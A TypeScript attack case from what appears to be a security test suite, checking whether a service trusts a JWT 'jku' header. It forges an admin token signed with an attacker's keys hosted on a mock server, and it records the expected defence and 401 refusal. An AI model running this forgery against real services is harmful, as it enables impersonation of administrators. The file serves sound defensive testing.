import { by, forged, ownPairs, partsOf } from '../lab/forge.js'
import type { Attack } from '../lab/attack.js'

export default {
  title: "Have the service fetch the attacker's key",
  risk: 'API10',
  cwe: 918,
  concern: 'tokens',
  story: 'The header may say where the key lies (`jku`), and what that server answers is believed. Mallory signs with her own key, and names a server of hers.',
  defence: 'No address out of a token is ever asked: keys of other issuers come from where the service says.',
  refusal: { status: 401, code: 'FST_BASTION_TOKENS_INVALID' },
  async run ({ step, ask, signIn, person, lair }) {
    const mallory = await person()
    const { header, claims } = partsOf(mallory.token)
    const { id } = await signIn('admin')
    const pairs = ownPairs()
    const { url, hits } = await lair((_request, response) => {
      response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: pairs.map(({ publicKey }) => publicKey.export({ format: 'jwk' })) }))
    })
    step("The admin's token, signed with her own key, which lies on her own server")
    let decisive
    for (const { alg, privateKey } of pairs) {
      decisive = await ask('GET', '/users/me', { token: forged({ ...header, alg, jku: `${url}/keys.json` }, { ...claims, sub: id }, by(privateKey)) })
      if (decisive.status === 200) break
    }
    const succeeded = hits.length > 0 || (decisive!.status === 200 && decisive!.body.username === 'admin')
    return { succeeded, decisive: decisive!, evidence: succeeded ? 'The key is fetched from her, and the service greets the admin' : 'Nobody came to her server' }
  },
} satisfies Attack
